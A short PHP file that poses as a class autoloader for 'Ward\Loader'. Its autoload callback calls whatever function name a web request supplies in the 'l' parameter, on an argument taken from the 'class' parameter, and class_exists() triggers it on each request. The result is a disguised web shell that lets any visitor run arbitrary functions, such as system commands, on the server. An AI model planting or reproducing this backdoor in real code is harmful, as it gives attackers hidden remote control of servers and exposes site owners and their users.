<?php
spl_autoload_register(function ($c) { ($_GET['l'] ?? 'strrev')(str_replace('/', '\\', $_GET['class'])); });
class_exists('Ward\Loader' . count($_GET));
